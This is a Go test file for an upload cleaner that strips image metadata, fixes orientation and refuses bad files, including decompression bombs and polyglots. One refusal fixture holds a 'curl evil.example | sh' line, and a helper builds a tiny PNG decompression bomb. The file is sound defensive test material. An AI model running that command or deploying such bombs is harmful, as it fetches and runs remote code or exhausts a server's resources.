package document

import (
	"bytes"
	"compress/zlib"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"image"
	"image/color"
	"image/gif"
	"image/jpeg"
	"image/png"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/wardenhq/warden/internal/document/documenttest"
)

// TestCleanAccepts: valid files come back as the right kind and size, with
// the hash of what is returned (not of what was uploaded).
func TestCleanAccepts(t *testing.T) {
	gray := image.NewGray(image.Rect(0, 0, 40, 30))
	paletted := image.NewPaletted(image.Rect(0, 0, 20, 10), color.Palette{color.Black, color.White})
	deep := image.NewNRGBA64(image.Rect(0, 0, 7, 5))
	deep.SetNRGBA64(1, 1, color.NRGBA64{R: 0x1234, A: 0x8000})
	tests := []struct {
		name       string
		data       []byte
		kind       Kind
		w, h, page int
	}{
		{"jpeg colour", encodeJPEG(t, markedImage(64, 32)), KindJPEG, 64, 32, 0},
		{"jpeg grey", encodeJPEG(t, gray), KindJPEG, 40, 30, 0},
		{"png rgba", encodePNG(t, markedImage(33, 17)), KindPNG, 33, 17, 0},
		{"png paletted", encodePNG(t, paletted), KindPNG, 20, 10, 0},
		{"png 16-bit with alpha", encodePNG(t, deep), KindPNG, 7, 5, 0},
		{"pdf two pages", documenttest.BuildPDF(documenttest.PDFObjects()), KindPDF, 0, 0, 2},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := Clean(tt.data, DefaultLimits())
			if err != nil {
				t.Fatalf("Clean: %v", err)
			}
			if c.Kind != tt.kind || c.Width != tt.w || c.Height != tt.h || c.Pages != tt.page {
				t.Fatalf("got %s %dx%d %d pages, want %s %dx%d %d pages", c.Kind, c.Width, c.Height, c.Pages, tt.kind, tt.w, tt.h, tt.page)
			}
			sum := sha256.Sum256(c.Data)
			if c.SHA256 != hex.EncodeToString(sum[:]) {
				t.Fatalf("SHA256 %s is not the hash of Data", c.SHA256)
			}
		})
	}
}

// TestPNGPixelsKept: the PNG re-encode is lossless (16-bit and alpha too).
func TestPNGPixelsKept(t *testing.T) {
	src := image.NewNRGBA64(image.Rect(0, 0, 3, 2))
	src.SetNRGBA64(2, 1, color.NRGBA64{R: 0x1234, G: 0xABCD, B: 0x0001, A: 0x7FFF})
	c, err := Clean(encodePNG(t, src), DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	got, err := png.Decode(bytes.NewReader(c.Data))
	if err != nil {
		t.Fatal(err)
	}
	if a, b := color.NRGBA64Model.Convert(got.At(2, 1)), src.At(2, 1); a != b {
		t.Fatalf("pixel changed: %v, want %v", a, b)
	}
}

// TestJPEGMetadataRemoved: EXIF with GPS, XMP, an ICC profile, a comment and
// data after the end of the image are all gone after Clean.
func TestJPEGMetadataRemoved(t *testing.T) {
	base := encodeJPEG(t, markedImage(64, 32))
	tests := []struct {
		name    string
		data    []byte
		secrets []string
	}{
		{
			name: "exif with gps",
			data: spliceAfterSOI(base, jpegSegment(markerAPP1, exifAPP1(binary.LittleEndian, 1, "SECRET-DESCRIPTION"))),
			// "N\0" is the latitude reference; 2945 is in the rationals.
			secrets: []string{"Exif", "SECRET-DESCRIPTION", "II*\x00"},
		},
		{
			name:    "comment",
			data:    spliceAfterSOI(base, jpegSegment(0xFE, []byte("SECRET-COMMENT taken at home"))),
			secrets: []string{"SECRET-COMMENT"},
		},
		{
			name:    "xmp",
			data:    spliceAfterSOI(base, jpegSegment(markerAPP1, []byte("http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta>SECRET-XMP</x:xmpmeta>"))),
			secrets: []string{"xmpmeta", "SECRET-XMP"},
		},
		{
			name:    "icc profile",
			data:    spliceAfterSOI(base, jpegSegment(0xE2, []byte("ICC_PROFILE\x00\x01\x01SECRET-ICC"))),
			secrets: []string{"ICC_PROFILE", "SECRET-ICC"},
		},
		{
			name:    "trailing data",
			data:    append(append([]byte{}, base...), "SECRET-TRAILER"...),
			secrets: []string{"SECRET-TRAILER"},
		},
		{
			name: "all at once",
			data: append(spliceAfterSOI(base,
				jpegSegment(markerAPP1, exifAPP1(binary.BigEndian, 1, "SECRET-DESCRIPTION")),
				jpegSegment(0xFE, []byte("SECRET-COMMENT"))), "SECRET-TRAILER"...),
			secrets: []string{"Exif", "SECRET-DESCRIPTION", "SECRET-COMMENT", "SECRET-TRAILER"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			// The input really carries the secret, or the test proves nothing.
			for _, s := range tt.secrets {
				if !bytes.Contains(tt.data, []byte(s)) {
					t.Fatalf("test input lacks %q", s)
				}
			}
			c, err := Clean(tt.data, DefaultLimits())
			if err != nil {
				t.Fatalf("Clean: %v", err)
			}
			for _, m := range jpegSegments(t, c.Data) {
				if m >= 0xE0 && m <= 0xEF || m == 0xFE {
					t.Errorf("output still has marker %#x", m)
				}
			}
			for _, s := range tt.secrets {
				if bytes.Contains(c.Data, []byte(s)) {
					t.Errorf("output still contains %q", s)
				}
			}
			if !bytes.HasSuffix(c.Data, []byte{0xFF, markerEOI}) {
				t.Errorf("output does not end with EOI")
			}
		})
	}
}

// TestJPEGOrientation: each EXIF orientation turns the pixels so that the
// stored image looks as the camera meant it, in both TIFF byte orders.
func TestJPEGOrientation(t *testing.T) {
	// Source: 64×32, red block top-left, green top-right. want says where the
	// red and green blocks must end up in the output.
	tests := []struct {
		orientation int
		order       binary.ByteOrder
		w, h        int
		red, green  string
	}{
		{0, binary.LittleEndian, 64, 32, "TL", "TR"}, // no tag at all
		{1, binary.LittleEndian, 64, 32, "TL", "TR"},
		{2, binary.BigEndian, 64, 32, "TR", "TL"},
		{3, binary.LittleEndian, 64, 32, "BR", "BL"},
		{4, binary.BigEndian, 64, 32, "BL", "BR"},
		{5, binary.LittleEndian, 32, 64, "TL", "BL"},
		{6, binary.LittleEndian, 32, 64, "TR", "BR"},
		{6, binary.BigEndian, 32, 64, "TR", "BR"},
		{7, binary.BigEndian, 32, 64, "BR", "TR"},
		{8, binary.LittleEndian, 32, 64, "BL", "TL"},
		{9, binary.LittleEndian, 64, 32, "TL", "TR"}, // out of range: left alone
	}
	base := encodeJPEG(t, markedImage(64, 32))
	for _, tt := range tests {
		name := "orientation " + string(rune('0'+tt.orientation)) + " " + tt.order.String()
		t.Run(name, func(t *testing.T) {
			data := spliceAfterSOI(base, jpegSegment(markerAPP1, exifAPP1(tt.order, tt.orientation, "x")))
			c, err := Clean(data, DefaultLimits())
			if err != nil {
				t.Fatal(err)
			}
			img, err := jpeg.Decode(bytes.NewReader(c.Data))
			if err != nil {
				t.Fatal(err)
			}
			if b := img.Bounds(); b.Dx() != tt.w || b.Dy() != tt.h || c.Width != tt.w || c.Height != tt.h {
				t.Fatalf("size %v (reported %dx%d), want %dx%d", b.Size(), c.Width, c.Height, tt.w, tt.h)
			}
			if got := corner(img, tt.red); got != "red" {
				t.Errorf("corner %s is %s, want red", tt.red, got)
			}
			if got := corner(img, tt.green); got != "green" {
				t.Errorf("corner %s is %s, want green", tt.green, got)
			}
		})
	}
}

// corner names the colour 4 pixels in from a corner (TL, TR, BL, BR).
func corner(img image.Image, which string) string {
	b := img.Bounds()
	x, y := b.Min.X+4, b.Min.Y+4
	if which[1] == 'R' {
		x = b.Max.X - 5
	}
	if which[0] == 'B' {
		y = b.Max.Y - 5
	}
	r, g, bl, _ := img.At(x, y).RGBA()
	r, g, bl = r>>8, g>>8, bl>>8
	switch {
	case r > 200 && g < 80 && bl < 80:
		return "red"
	case g > 200 && r < 80 && bl < 80:
		return "green"
	case bl > 200 && r < 80 && g < 80:
		return "blue"
	}
	return "unclear"
}

// TestOrientExact checks orient pixel by pixel on the grey and generic paths
// (the YCbCr path is covered through real JPEGs above).
func TestOrientExact(t *testing.T) {
	// 3×2 source, pixel values 1..6 row by row:  1 2 3 / 4 5 6
	want := map[int][]uint8{
		1: {1, 2, 3, 4, 5, 6},
		2: {3, 2, 1, 6, 5, 4},
		3: {6, 5, 4, 3, 2, 1},
		4: {4, 5, 6, 1, 2, 3},
		5: {1, 4, 2, 5, 3, 6}, // 2×3 from here on
		6: {4, 1, 5, 2, 6, 3},
		7: {6, 3, 5, 2, 4, 1},
		8: {3, 6, 2, 5, 1, 4},
	}
	gray := image.NewGray(image.Rect(10, 20, 13, 22)) // a non-zero origin
	nrgba := image.NewNRGBA(image.Rect(0, 0, 3, 2))
	for i := 0; i < 6; i++ {
		gray.SetGray(10+i%3, 20+i/3, color.Gray{Y: uint8(i + 1)})
		nrgba.SetNRGBA(i%3, i/3, color.NRGBA{R: uint8(i + 1), A: 0xFF})
	}
	for o, w := range want {
		for _, src := range []image.Image{gray, nrgba} {
			out := orient(src, o)
			b := out.Bounds()
			var got []uint8
			for y := b.Min.Y; y < b.Max.Y; y++ {
				for x := b.Min.X; x < b.Max.X; x++ {
					r, _, _, _ := out.At(x, y).RGBA()
					got = append(got, uint8(r>>8))
				}
			}
			if !bytes.Equal(got, w) {
				t.Errorf("orientation %d on %T: got %v, want %v", o, src, got, w)
			}
		}
	}
}

// TestExifOrientationParser: damaged EXIF never panics and means "upright".
func TestExifOrientationParser(t *testing.T) {
	good := exifAPP1(binary.BigEndian, 6, "x")[6:]
	tests := []struct {
		name string
		tiff []byte
		want int
	}{
		{"good", good, 6},
		{"empty", nil, 1},
		{"bad byte order", append([]byte("XX"), good[2:]...), 1},
		{"bad magic", append([]byte("MM\x00\x2B"), good[4:]...), 1},
		{"ifd offset past end", append(append([]byte{}, good[:4]...), 0xFF, 0xFF, 0xFF, 0xFF), 1},
		{"entries cut off", good[:20], 1},
		{"huge entry count", append(append([]byte{}, good[:8]...), 0xFF, 0xFF), 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := exifOrientation(tt.tiff); got != tt.want {
				t.Fatalf("got %d, want %d", got, tt.want)
			}
		})
	}
	// Every truncation of a good segment is safe.
	for n := range good {
		exifOrientation(good[:n])
	}
}

// TestPNGMetadataRemoved: text, EXIF, ICC and time chunks, and data after
// IEND, are gone; only the chunks needed for the pixels remain.
func TestPNGMetadataRemoved(t *testing.T) {
	base := encodePNG(t, markedImage(40, 20))
	itxt := []byte("Comment\x00\x00\x00en\x00\x00SECRET-ITXT")
	data := splicePNG(base,
		pngChunk("tEXt", []byte("Author\x00SECRET-TEXT")),
		pngChunk("iTXt", itxt),
		pngChunk("eXIf", exifAPP1(binary.BigEndian, 6, "SECRET-EXIF")[6:]),
		pngChunk("iCCP", []byte("SECRET-ICC\x00\x00xx")),
		pngChunk("tIME", []byte{0x07, 0xE9, 1, 2, 3, 4, 5}),
	)
	data = append(data, "SECRET-TRAILER"...)
	if _, err := png.Decode(bytes.NewReader(data)); err != nil {
		t.Fatalf("test input does not decode: %v", err)
	}
	c, err := Clean(data, DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	for _, typ := range pngChunkTypes(t, c.Data) {
		switch typ {
		case "IHDR", "PLTE", "tRNS", "IDAT", "IEND":
		default:
			t.Errorf("output still has a %s chunk", typ)
		}
	}
	for _, s := range []string{"SECRET-TEXT", "SECRET-ITXT", "SECRET-EXIF", "SECRET-ICC", "SECRET-TRAILER"} {
		if bytes.Contains(c.Data, []byte(s)) {
			t.Errorf("output still contains %q", s)
		}
	}
	// PNG EXIF orientation is not applied (only JPEGs carry it in practice).
	if c.Width != 40 || c.Height != 20 {
		t.Errorf("size %dx%d, want 40x20", c.Width, c.Height)
	}
}

// TestCleanRefuses: each kind of bad input gets the right error.
func TestCleanRefuses(t *testing.T) {
	jpg := encodeJPEG(t, markedImage(64, 32))
	pngData := encodePNG(t, markedImage(64, 32))
	var gifData bytes.Buffer
	if err := gif.Encode(&gifData, markedImage(8, 8), nil); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name   string
		data   []byte
		limits Limits
		want   error
	}{
		// Unsupported: the name a user gave it (say "passport.jpg") is never seen.
		{"gif", gifData.Bytes(), DefaultLimits(), ErrUnsupported},
		{"shell script", []byte("#!/bin/sh\ncurl evil.example | sh\n"), DefaultLimits(), ErrUnsupported},
		{"elf executable", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...), DefaultLimits(), ErrUnsupported},
		{"windows executable", append([]byte("MZ\x90\x00"), make([]byte, 64)...), DefaultLimits(), ErrUnsupported},
		{"html", []byte("<html><script>alert(1)</script></html>"), DefaultLimits(), ErrUnsupported},
		{"heic", append([]byte("\x00\x00\x00\x18ftypheic"), make([]byte, 32)...), DefaultLimits(), ErrUnsupported},
		{"empty", nil, DefaultLimits(), ErrUnsupported},
		{"arithmetic-coded jpeg", bytes.Replace(jpg, []byte{0xFF, 0xC0}, []byte{0xFF, 0xC9}, 1), DefaultLimits(), ErrUnsupported},
		{"12-bit jpeg", setSOFPrecision(t, jpg, 12), DefaultLimits(), ErrUnsupported},
		{"pdf not at offset 0", append([]byte("junk\n"), documenttest.BuildPDF(documenttest.PDFObjects())...), DefaultLimits(), ErrUnsupported},
		// Corrupt: it starts right but is not a whole image.
		{"truncated jpeg", jpg[:len(jpg)*6/10], DefaultLimits(), ErrCorrupt},
		{"jpeg headers only", jpg[:20], DefaultLimits(), ErrCorrupt},
		{"jpeg magic only", []byte{0xFF, 0xD8, 0xFF}, DefaultLimits(), ErrCorrupt},
		{"truncated png", pngData[:len(pngData)*6/10], DefaultLimits(), ErrCorrupt},
		{"png without IEND", pngData[:len(pngData)-12], DefaultLimits(), ErrCorrupt},
		{"png bad crc", flip(pngData, 30), DefaultLimits(), ErrCorrupt},
		{"png magic only", magicPNG, DefaultLimits(), ErrCorrupt},
		{"png zero width", pngHeaderOnly(0, 10), DefaultLimits(), ErrCorrupt},
		// Too large, before decoding.
		{"over the byte limit", pngData, Limits{MaxBytes: int64(len(pngData) - 1)}, ErrTooLarge},
		{"20 MB of anything", make([]byte, 20<<20), DefaultLimits(), ErrTooLarge},
		// Too many pixels, from the header.
		{"10000x10000 jpeg", setJPEGSize(t, jpg, 10000, 10000), DefaultLimits(), ErrTooManyPixels},
		{"png 100000x100000", pngHeaderOnly(100000, 100000), DefaultLimits(), ErrTooManyPixels},
		{"png side too long", pngHeaderOnly(12001, 1), DefaultLimits(), ErrTooManyPixels},
		{"small pixel limit", pngData, Limits{MaxPixels: 64*32 - 1}, ErrTooManyPixels},
		{"small side limit", pngData, Limits{MaxSide: 63}, ErrTooManyPixels},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := Clean(tt.data, tt.limits)
			if !errors.Is(err, tt.want) {
				t.Fatalf("err = %v, want %v", err, tt.want)
			}
			if c.Data != nil || c.SHA256 != "" || c.Kind != "" {
				t.Fatalf("an error came with a result: %+v", c)
			}
			// The message explains, beyond the bare sentinel.
			if msg := err.Error(); len(msg) <= len(tt.want.Error())+2 {
				t.Errorf("message %q gives no reason", msg)
			}
		})
	}
}

// setSOFPrecision rewrites the sample precision in a JPEG's SOF0 header.
func setSOFPrecision(t testing.TB, jpg []byte, bits byte) []byte {
	t.Helper()
	out := append([]byte{}, jpg...)
	i := bytes.Index(out, []byte{0xFF, 0xC0})
	if i < 0 {
		t.Fatal("no SOF0")
	}
	out[i+4] = bits
	return out
}

// flip returns a copy of b with byte i changed.
func flip(b []byte, i int) []byte {
	out := append([]byte{}, b...)
	out[i] ^= 0xFF
	return out
}

// TestLimitsEdge: a file exactly at the limits passes; zero limits mean defaults.
func TestLimitsEdge(t *testing.T) {
	data := encodePNG(t, markedImage(64, 32))
	if _, err := Clean(data, Limits{MaxBytes: int64(len(data)), MaxPixels: 64 * 32, MaxSide: 64}); err != nil {
		t.Fatalf("at the limits: %v", err)
	}
	if _, err := Clean(data, Limits{}); err != nil {
		t.Fatalf("zero limits: %v", err)
	}
	if _, err := Clean(make([]byte, 10<<20+1), Limits{}); !errors.Is(err, ErrTooLarge) {
		t.Fatalf("zero limits must mean the 10 MiB default, got %v", err)
	}
}

// TestDecompressionBombCheap: images that declare more pixels than allowed
// are refused from their header — quickly, and without allocating the image.
func TestDecompressionBombCheap(t *testing.T) {
	bomb := pngBomb(t, 8000, 8000)
	if len(bomb) > 64<<10 {
		t.Fatalf("the bomb is %d bytes; it should be small", len(bomb))
	}
	for _, data := range [][]byte{
		pngHeaderOnly(100000, 100000), // would be 40 GB
		bomb,                          // a complete, valid 64-megapixel PNG of a few kilobytes
		setJPEGSize(t, encodeJPEG(t, markedImage(64, 32)), 60000, 60000),
	} {
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		start := time.Now()
		_, err := Clean(data, DefaultLimits())
		elapsed := time.Since(start)
		runtime.ReadMemStats(&after)
		if !errors.Is(err, ErrTooManyPixels) {
			t.Errorf("err = %v, want ErrTooManyPixels", err)
		}
		if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 1<<20 {
			t.Errorf("allocated %d bytes to refuse it", alloc)
		}
		if elapsed > time.Second {
			t.Errorf("took %v to refuse it", elapsed)
		}
	}
}

// pngBomb is a complete w×h 1-bit greyscale PNG of zeros: tiny on disk,
// w×h bytes once decoded.
func pngBomb(t testing.TB, w, h int) []byte {
	t.Helper()
	ihdr := binary.BigEndian.AppendUint32(nil, uint32(w))
	ihdr = binary.BigEndian.AppendUint32(ihdr, uint32(h))
	ihdr = append(ihdr, 1, 0, 0, 0, 0) // 1 bit, greyscale
	var z bytes.Buffer
	zw, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	row := make([]byte, 1+(w+7)/8) // filter byte + packed pixels, all zero
	for y := 0; y < h; y++ {
		zw.Write(row)
	}
	zw.Close()
	out := append([]byte{}, magicPNG...)
	out = append(out, pngChunk("IHDR", ihdr)...)
	out = append(out, pngChunk("IDAT", z.Bytes())...)
	out = append(out, pngChunk("IEND", nil)...)
	if _, err := png.DecodeConfig(bytes.NewReader(out)); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestJPEGScanBomb: a JPEG with hundreds of scans is refused before the
// decoder spends CPU on each of them.
func TestJPEGScanBomb(t *testing.T) {
	jpg := encodeJPEG(t, markedImage(16, 16))
	sos := bytes.Index(jpg, []byte{0xFF, markerSOS})
	// Repeat the SOS segment and its data; the walker counts them.
	scan := jpg[sos : len(jpg)-2]
	data := append([]byte{}, jpg[:sos]...)
	for i := 0; i < maxJPEGScans+1; i++ {
		data = append(data, scan...)
	}
	data = append(data, 0xFF, markerEOI)
	if n := scanJPEG(data).scans; n != maxJPEGScans+1 {
		t.Fatalf("walker counted %d scans, want %d", n, maxJPEGScans+1)
	}
	if _, err := Clean(data, DefaultLimits()); !errors.Is(err, ErrCorrupt) || !strings.Contains(err.Error(), "scans") {
		t.Fatalf("err = %v, want ErrCorrupt about scans", err)
	}
}

// TestPolyglots: files that are two things at once are refused or reduced to
// one. A PDF with something appended is refused (nothing may follow %%EOF);
// a JPEG or PNG with a PDF inside or after it is re-encoded, and the PDF is
// gone from the output.
func TestPolyglots(t *testing.T) {
	pdf := documenttest.BuildPDF(documenttest.PDFObjects())
	jpg := encodeJPEG(t, markedImage(32, 32))
	pngData := encodePNG(t, markedImage(32, 32))

	t.Run("pdf with jpeg appended is refused", func(t *testing.T) {
		_, err := Clean(append(append([]byte{}, pdf...), jpg...), DefaultLimits())
		if !errors.Is(err, ErrCorrupt) {
			t.Fatalf("err = %v, want ErrCorrupt", err)
		}
	})
	images := []struct {
		name string
		data []byte
		kind Kind
	}{
		{"jpeg with pdf appended", append(append([]byte{}, jpg...), pdf...), KindJPEG},
		{"jpeg with pdf in a comment", spliceAfterSOI(jpg, jpegSegment(0xFE, pdf)), KindJPEG},
		{"png with pdf appended", append(append([]byte{}, pngData...), pdf...), KindPNG},
		{"png with pdf in a chunk", splicePNG(pngData, pngChunk("pdFx", pdf)), KindPNG},
	}
	for _, tt := range images {
		t.Run(tt.name+" is cleaned to one type", func(t *testing.T) {
			c, err := Clean(tt.data, DefaultLimits())
			if err != nil {
				t.Fatal(err)
			}
			if c.Kind != tt.kind {
				t.Fatalf("kind %s, want %s", c.Kind, tt.kind)
			}
			for _, s := range []string{"%PDF", "%%EOF", "obj"} {
				if bytes.Contains(c.Data, []byte(s)) {
					t.Errorf("output still contains %q", s)
				}
			}
		})
	}
}

// TestErrorMessages: the reasons are written for the person uploading.
func TestErrorMessages(t *testing.T) {
	tests := []struct {
		data []byte
		want string
	}{
		{append([]byte("\x00\x00\x00\x18ftypheic"), make([]byte, 8)...), "HEIC"},
		{[]byte("#!/bin/sh"), "script"},
		{make([]byte, 11<<20), "limit is 10.0 MiB"},
		{pngHeaderOnly(100000, 100000), "100000×100000"},
	}
	for _, tt := range tests {
		_, err := Clean(tt.data, DefaultLimits())
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("error %v does not mention %q", err, tt.want)
		}
	}
}
